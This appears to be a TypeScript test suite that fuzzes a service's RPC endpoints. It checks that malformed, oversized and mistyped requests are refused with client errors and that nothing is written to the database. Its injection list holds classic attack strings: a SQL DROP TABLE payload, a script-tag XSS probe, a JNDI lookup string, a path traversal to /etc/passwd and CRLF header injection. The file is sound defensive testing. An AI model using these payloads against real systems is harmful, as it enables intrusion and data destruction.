import type { DescField } from "@bufbuild/protobuf";
import { readEnvironment } from "@hexa/adapters/runtime/config";
import { securityFromEnvironment } from "@hexa/adapters/runtime/security";
import { services } from "@hexa/adapters/services";
import { MarketingService } from "@hexa/proto/trial/marketing/v1/marketing_pb";
import { OrderService } from "@hexa/proto/trial/order/v1/order_pb";
import {
  adminToken,
  connectJsonClient,
  eventually,
  type ModulesInProcess,
  query,
  startModules,
} from "@hexa/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Rpc, rpcsOf } from "./support.ts";

const modules = [...services.values()];
const rpcs = rpcsOf(modules);
const unary = rpcs.filter((rpc) => rpc.method.methodKind === "unary");
const MAX_REQUEST_BYTES = 64 * 1024;

const INJECTIONS = [
  "'; DROP TABLE trial_order; --",
  '" OR 1=1 --',
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a lookup-injection probe, meant literally
  "${jndi:ldap://example.invalid/a}",
  "../../../../etc/passwd",
  "%00%0d%0aSet-Cookie: x=y",
  "\u202e\u0000\ud83d\ude00",
  "a".repeat(10_000),
];

/** A JSON value of the wrong type for `field`. */
function wrongTypeFor(field: DescField): unknown {
  if (field.fieldKind === "list" || field.fieldKind === "map") return "not a list";
  if (field.fieldKind === "message") return 42;
  if (field.fieldKind === "enum") return { not: "an enum value" };
  return field.scalar === 9 ? { nested: true } : "not a number"; // 9: string
}

describe("fuzzing every RPC", () => {
  let app: ModulesInProcess;
  let token: string;

  beforeAll(async () => {
    const env = readEnvironment({ ...process.env, MAX_REQUEST_BYTES: String(MAX_REQUEST_BYTES) });
    app = await startModules(modules, {
      security: await securityFromEnvironment(env, { allInOne: false, callsServices: true }),
    });
    token = await adminToken();
  });

  afterAll(async () => {
    await app?.stop();
  });

  async function post(
    rpc: Rpc,
    body: string | Uint8Array,
    contentType: string,
  ): Promise<{ status: number; text: string }> {
    const response = await fetch(`${app.url}${rpc.procedure}`, {
      method: "POST",
      headers: { "content-type": contentType, authorization: `Bearer ${token}` },
      body,
      signal: AbortSignal.timeout(10_000),
    });
    return { status: response.status, text: await response.text() };
  }

  /** Every row of every table of the test database, counted per table. */
  async function rowCounts(): Promise<Record<string, number>> {
    const tables = await query<{ name: string }>(
      app.databaseUrl,
      "select quote_ident(schemaname) || '.' || quote_ident(relname) as name from pg_stat_user_tables order by 1",
    );
    const counts: Record<string, number> = {};
    for (const { name } of tables) {
      const [row] = await query<{ n: string }>(app.databaseUrl, `select count(*) as n from ${name}`);
      counts[name] = Number(row?.n ?? 0);
    }
    return counts;
  }

  /** Only client errors: 4xx, and never a server fault's code. */
  function expectClientError(answer: { status: number; text: string }, what: string): void {
    expect(answer.status, `${what}: ${answer.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
    expect(answer.status, `${what}: ${answer.text.slice(0, 200)}`).toBeLessThan(500);
    expect(answer.text).not.toMatch(/"code":"(internal|unknown|data_loss)"/);
  }

  it("refuses malformed, mistyped, binary garbage and oversized requests with client errors, writing nothing", async () => {
    const before = await rowCounts();
    for (const rpc of unary) {
      const refused: Array<[string, string | Uint8Array, string]> = [
        ["malformed JSON", '{"', "application/json"],
        ["a JSON array", "[1,2,3]", "application/json"],
        ["JSON null", "null", "application/json"],
        ["a JSON string", '"hello"', "application/json"],
        ["invalid protobuf", new Uint8Array([0xff, 0xff, 0xff, 0xff, 0x0f]), "application/proto"],
        ["truncated protobuf", new Uint8Array([0x0a, 0x7f, 0x41]), "application/proto"],
        [
          "oversized JSON",
          JSON.stringify({ padding: "x".repeat(MAX_REQUEST_BYTES * 2) }),
          "application/json",
        ],
        ["oversized protobuf", new Uint8Array(MAX_REQUEST_BYTES * 2).fill(0x41), "application/proto"],
        ...rpc.method.input.fields.map((field): [string, string | Uint8Array, string] => [
          `${field.localName} of the wrong type`,
          JSON.stringify({ [field.jsonName]: wrongTypeFor(field) }),
          "application/json",
        ]),
      ];
      for (const [what, body, contentType] of refused) {
        expectClientError(await post(rpc, body, contentType), `${rpc.procedure} ${what}`);
      }
    }
    expect(await rowCounts()).toEqual(before);
    expect((await fetch(`${app.url}/healthz`)).status).toBe(200);
  });

  it("answers injection strings in every string field without a server fault", async () => {
    for (const rpc of unary) {
      const strings = rpc.method.input.fields.filter(
        (field) => field.fieldKind === "scalar" && field.scalar === 9,
      );
      for (const field of strings) {
        for (const value of INJECTIONS) {
          const answer = await post(rpc, JSON.stringify({ [field.jsonName]: value }), "application/json");
          const shown = JSON.stringify(value.slice(0, 40));
          expect(
            answer.status,
            `${rpc.procedure} ${field.localName}=${shown}: ${answer.text.slice(0, 200)}`,
          ).toBeLessThan(500);
        }
      }
    }
    expect((await fetch(`${app.url}/healthz`)).status).toBe(200);
    expect((await fetch(`${app.url}/readyz`)).status).toBe(200);
  });

  it("stores and returns an injection string that is valid input literally", async () => {
    const evil = "'; DROP TABLE trial_order; --";
    const marketing = connectJsonClient(MarketingService, app.url);
    const orders = connectJsonClient(OrderService, app.url);
    const { plan } = await marketing.startTrialPlan({ productId: "fuzz-product", name: evil, trialDays: 7 });
    expect(plan?.name).toBe(evil);
    expect((await marketing.getTrialPlan({ planId: plan?.planId ?? "" })).plan?.name).toBe(evil);
    const placed = await eventually(() =>
      orders.placeOrder({ customerId: "c-fuzz", planId: plan?.planId ?? "", quantity: 1, address: evil }),
    );
    expect(placed.order?.address).toBe(evil);
    expect((await orders.getOrder({ orderId: placed.order?.orderId ?? "" })).order?.address).toBe(evil);
    const [row] = await query<{ address: string }>(
      app.databaseUrl,
      "select address from trial_order.trial_order where order_id = $1",
      [placed.order?.orderId],
    );
    expect(row?.address).toBe(evil);
  });
});
